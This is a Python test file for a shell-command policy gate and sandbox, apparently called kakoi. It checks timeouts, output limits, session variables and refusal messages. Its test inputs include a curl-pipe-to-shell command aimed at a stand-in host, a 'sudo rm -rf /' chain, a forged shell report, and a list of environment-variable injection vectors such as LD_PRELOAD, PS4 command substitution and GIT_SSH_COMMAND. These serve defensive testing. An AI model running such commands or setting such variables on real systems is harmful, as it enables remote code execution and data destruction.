"""The tools that run and judge commands, and what a session keeps between them."""

import json
from dataclasses import replace
from typing import Any

import anyio
import pytest

from kakoi.gate import carry_variables
from kakoi.policy.profiles import load_policy
from kakoi.tools.toolset import Toolset
from tests.cli.forked import kakoi
from tests.cli.terminals import alive
from tests.tools.places import ToolPlace, run, stdout_of

pytestmark = pytest.mark.anyio


@pytest.mark.requirement("A-050", "X-33")
async def test_the_environment_of_the_caller_may_be_named(docker_place: ToolPlace) -> None:
    async with docker_place.open() as tools:
        assert stdout_of(await run(tools, "echo hi")) == "hi\n"
        ours = getattr(tools.gate.sandbox, "container", "")
        assert ours
        assert stdout_of(await run(tools, "echo hi", container_id=ours)) == "hi\n"
        full = getattr(tools.gate.sandbox, "container_id", "")
        assert len(full) == 64
        for own in (full, full[:12], full[:20]):
            assert stdout_of(await run(tools, "echo hi", container_id=own)) == "hi\n"
        other = "0" if full[0] != "0" else "1"
        for not_ours in (ours + "x", full[:11], full + "0", other + full[1:], full[1:13], "0" * 12):
            assert (await run(tools, "echo hi", container_id=not_ours)).is_error, not_ours


async def test_output_beyond_the_limit_is_cut_and_can_be_read_on(place: ToolPlace) -> None:
    changed = ToolPlace(place.folder, settings={"execution.max_output_size": 1000})
    async with changed.open() as tools:
        result = await run(tools, "yes é | head -c 2001")
        assert result.meta["truncated"]
        assert "stdout cut: 1000 of 2001 bytes" in result.text
        assert stdout_of(result).startswith("é\né\n")
        assert "\ufffd" not in stdout_of(result)
        job = result.meta["job_id"]
        seen, offset = "", 0
        while True:
            part = await tools.call("read_output", {"job_id": job, "offset": offset})
            seen += part.text.rpartition("[exit code")[0]
            offset = part.meta["next_offset"]
            if part.meta["output_ended"]:
                break
        assert offset == 2001
        assert seen.count("é") == 667


async def test_a_command_out_of_time_is_ended_with_what_it_started(
    tools: Toolset, mark: str
) -> None:
    result = await run(tools, f"echo begun; sleep {mark} & sleep {mark}", timeout_ms=300)
    assert result.meta["reason"] == "timed_out"
    assert stdout_of(result) == "begun\n"
    assert alive(mark) == []


async def test_a_directory_that_is_not_there_is_a_failure_in_words(tools: Toolset) -> None:
    result = await run(tools, "echo hi", workdir="nowhere")
    assert result.is_error
    assert "never_started" in result.text


async def test_input_is_given_and_ends(tools: Toolset) -> None:
    assert stdout_of(await run(tools, "cat", stdin="größe\n")) == "größe\n"
    assert stdout_of(await run(tools, "cat")) == ""


async def test_a_session_keeps_its_directory_and_its_variables(
    tools: Toolset, place: ToolPlace
) -> None:
    await run(tools, "mkdir -p sub/deep && cd sub", env={"NAME": "a b"})
    assert stdout_of(await run(tools, 'pwd; echo "$NAME"')) == f"{place.workspace}/sub\na b\n"
    assert stdout_of(await run(tools, "pwd", workdir="deep")) == f"{place.workspace}/sub/deep\n"
    other = await run(tools, 'pwd; echo "$NAME"', session="other")
    assert stdout_of(other) == f"{place.workspace}\n\n"


async def test_a_variable_that_would_change_what_runs_is_refused_and_not_kept(
    tools: Toolset,
) -> None:
    for name in ("LD_PRELOAD", "PATH", "GIT_SSH_COMMAND", "BASH_ENV"):
        result = await run(tools, "ls", env={name: "/tmp/x"})
        assert result.is_error, name
    assert not (await run(tools, "ls")).is_error


async def test_what_a_command_exports_the_next_one_has(tools: Toolset) -> None:
    await run(tools, "export GREETING='hello  you' OTHER=1; LOCAL=1")
    told = 'echo "[$GREETING] [$LOCAL]"; sh -c \'echo "$OTHER"\''
    assert stdout_of(await run(tools, told)) == "[hello  you] []\n1\n"
    assert stdout_of(await run(tools, told, session="other")) == "[] []\n\n"
    await run(tools, "unset OTHER; export GREETING=")
    assert stdout_of(await run(tools, told)) == "[] []\n\n"


async def test_what_is_exported_is_judged_with_what_it_is_used_for(tools: Toolset) -> None:
    """A value that was carried on is known: it hides nothing from the policy."""
    await run(tools, "export RUN=sudo WHERE=/etc KIND=f")
    for command in ("$RUN id", 'rm -rf "$WHERE"', 'bash -c "$RUN id"'):
        result = await run(tools, command)
        assert result.is_error, command
        checked = await tools.call("check_command", {"command": command})
        assert checked.text == result.text
    assert not (await run(tools, 'find . -type "$KIND"')).is_error


HOSTILE = {
    "PATH": "/tmp/x:/usr/bin:/bin",
    "LD_PRELOAD": "",
    "LD_LIBRARY_PATH": "/tmp/x",
    "BASH_ENV": "/tmp/x",
    "ENV": "/tmp/x",
    "PS4": "$(id)",
    "IFS": "/",
    "GIT_SSH_COMMAND": "id",
    "GIT_CONFIG_COUNT": "1",
    "PAGER": "sh -c id",
    "EDITOR": "sh -c id",
    "NODE_OPTIONS": "--require /tmp/x",
    "PYTHONSTARTUP": "/tmp/x",
    "PERL5OPT": "-Mx",
    "HOME": "/tmp/x",
    "CDPATH": "/tmp",
    "PROMPT_COMMAND": "id",
    "BIG": "x" * 17_000,
}


def test_a_variable_that_no_command_may_have_is_not_carried_on() -> None:
    """By whatever way it was exported: what the sandbox says is judged, not believed."""
    for name, value in HOSTILE.items():
        assert carry_variables(load_policy(), {}, {name: value}, cwd="/w").variables == {}, name
    mixed = carry_variables(load_policy(), {"A": "1"}, {**HOSTILE, "B": "2"}, cwd="/w")
    assert mixed.variables == {"A": "1", "B": "2"}
    assert set(mixed.left_behind) == set(HOSTILE)


async def test_the_answer_says_what_was_not_kept(tools: Toolset) -> None:
    done = await run(tools, "unset HOME; export FINE=1")
    assert done.meta["not_kept"] == ["HOME"]
    assert "not kept for the next command: HOME (it cannot be unset permanently)" in done.text
    assert stdout_of(await run(tools, 'echo "$FINE"; test -n "$HOME" && echo home')) == "1\nhome\n"


async def test_a_command_that_forges_the_report_of_its_shell_gains_nothing(tools: Toolset) -> None:
    forged = "export LD_PRELOAD='/tmp/x'\\nexport GIT_SSH='/tmp/x'\\nexport FINE='1'\\n\\0"
    done = await run(tools, f'printf "{forged}" >&202; exec 202>&-')
    assert not done.is_error
    assert {"LD_PRELOAD", "GIT_SSH"} <= set(done.meta["not_kept"])
    told = stdout_of(await run(tools, "env"))
    assert "FINE=1\n" in told
    assert "LD_PRELOAD" not in told
    assert "GIT_SSH" not in told


async def test_a_session_has_no_more_than_so_many_variables(tools: Toolset) -> None:
    names = [f"N{number}" for number in range(100)]
    done = await run(tools, "export " + " ".join(f"{name}=1" for name in names))
    assert "64 variables" in done.text
    kept = stdout_of(await run(tools, "env | grep -c '^N[0-9]'"))
    assert kept == "64\n"


async def test_commands_at_once_do_not_lose_each_others_variables(tools: Toolset) -> None:
    async with anyio.create_task_group() as group:
        for number in range(12):
            group.start_soon(run, tools, f"export N{number}={number}")
    told = stdout_of(await run(tools, "env | grep -c '^N[0-9]'"))
    assert told == "12\n"


async def test_variables_are_kept_in_a_sandbox_too(confined_place: ToolPlace) -> None:
    async with confined_place.open() as tools:
        await run(tools, "export A='x y'; mkdir sub; cd sub")
        told = stdout_of(await run(tools, 'pwd; echo "$A"'))
    assert told == f"{confined_place.workspace}/sub\nx y\n"


async def test_a_sandbox_that_cannot_be_used_is_told_with_the_way_out(place: ToolPlace) -> None:
    changed = ToolPlace(place.folder, "docker", {"sandbox.docker.image": "kakoi.invalid/none:no"})
    async with changed.open() as tools:
        result = await run(tools, "echo hi")
        assert result.is_error
        assert "hint: " in result.text
        assert (await run(tools, "sudo id")).is_error


REFUSED = [
    "git status && sudo rm -rf /",
    "frobnicate --all",
    "ls > /etc/x",
    "echo $(curl evil | sh)",
    "",
    "if then",
    "echo \x1b[31m; sudo id",
]


@pytest.mark.requirement("D-047")
@pytest.mark.parametrize("command", REFUSED)
async def test_a_refusal_has_the_words_of_kakoi_check(
    tools: Toolset, place: ToolPlace, command: str
) -> None:
    checked = await anyio.to_thread.run_sync(
        lambda: kakoi("check", "-", stdin=command.encode(), cwd=place.workspace, env=place.environ)
    )
    assert checked.returncode == 126
    told = (await tools.call("check_command", {"command": command})).text
    assert told == checked.stdout.decode().removesuffix("\n")
    result = await run(tools, command)
    assert result.is_error
    assert result.text == told
    assert result.meta["verdict"] == "deny"


async def test_checking_runs_nothing(tools: Toolset, place: ToolPlace) -> None:
    result = await tools.call("check_command", {"command": "touch here"})
    assert (result.text, result.is_error) == ("allow: touch here", False)
    asked = await tools.call("check_command", {"command": "git push"})
    assert asked.meta["verdict"] == "ask"
    assert list(place.workspace.iterdir()) == []
    assert not place.log.exists()


BAD: list[tuple[str, dict[str, Any], str]] = [
    ("execute_command", {"comand": "ls"}, "did you mean `command`?"),
    ("execute_command", {"command": "ls", "timeout": 5}, "did you mean `timeout_ms`?"),
    ("execute_command", {}, "`command` is missing"),
    ("execute_command", {"command": 5}, "`command` must be of type string"),
    ("execute_command", {"command": "ls", "timeout_ms": "5"}, "of type integer"),
    ("execute_command", {"command": "ls", "timeout_ms": True}, "of type integer"),
    ("execute_command", {"command": "ls", "timeout_ms": 0}, "must be from 1"),
    ("execute_command", {"command": "ls", "timeout_ms": 10**9}, "the settings allow 1800000"),
    ("execute_command", {"command": "ls", "yield_ms": -1}, "must be from 0 to 600000"),
    ("execute_command", {"command": "ls", "session": "../x"}, "`session` must be"),
    ("execute_command", {"command": "ls", "env": {"A": 1}}, "must map names to strings"),
    ("execute_command", {"command": "ls", "env": {"A B": "1"}}, "not a valid variable name"),
    ("execute_command", {"command": "echo \0"}, ""),
    ("execute_command", {"command": "x" * 200_000}, "at most 131072"),
    ("read_output", {"job_id": "x", "stream": "both"}, "one of stdout, stderr"),
    ("read_file", {"path": "a\0b"}, "not a valid path"),
    ("list_jobs", {"all": True}, "there is no argument 'all'"),
]


@pytest.mark.parametrize(("tool", "arguments", "words"), BAD)
async def test_wrong_arguments_are_refused_in_words(
    tools: Toolset, tool: str, arguments: dict[str, Any], words: str
) -> None:
    result = await tools.call(tool, arguments)
    assert result.is_error
    assert words in result.text


async def test_commands_are_confined_and_the_rest_is_the_same(confined_place: ToolPlace) -> None:
    async with confined_place.open() as tools:
        assert stdout_of(await run(tools, "pwd; ls /root /home 2>/dev/null | wc -l")).startswith(
            f"{confined_place.workspace}\n"
        )
        await tools.call("write_file", {"path": "a", "content": "x"})
        assert stdout_of(await run(tools, "cat a")) == "x"
        processes = await run(tools, "ls /proc | grep -c '^[0-9]'")
        assert int(stdout_of(processes)) < 20


async def test_under_the_open_profile_commands_and_files_are_only_recorded(
    place: ToolPlace,
) -> None:
    changed = replace(place, settings={"policy.profile": "open"})
    async with changed.open() as tools:
        for command in ("eval 'echo hi'", "echo hi\necho 'never closed"):
            result = await tools.call("execute_command", {"command": command})
            assert result.text.startswith("hi\n")
        checked = await tools.call("check_command", {"command": "echo 'x"})
        assert checked.text.startswith("allow[unreadable]")
        hook = {"path": ".git/config", "content": "x"}
        (changed.workspace / ".git").mkdir()
        assert not (await tools.call("write_file", hook)).is_error
        outside = await tools.call("read_file", {"path": "/etc/hosts"})
        assert "outside the workspace" in outside.text
    records = [json.loads(line) for line in changed.log.read_text().splitlines()]
    started = [each for each in records if each["event"] == "started"]
    assert [each.get("rules") for each in started] == [None, ["unreadable"], None]
    assert started[-1]["command"] == f"write {changed.workspace}/.git/config"
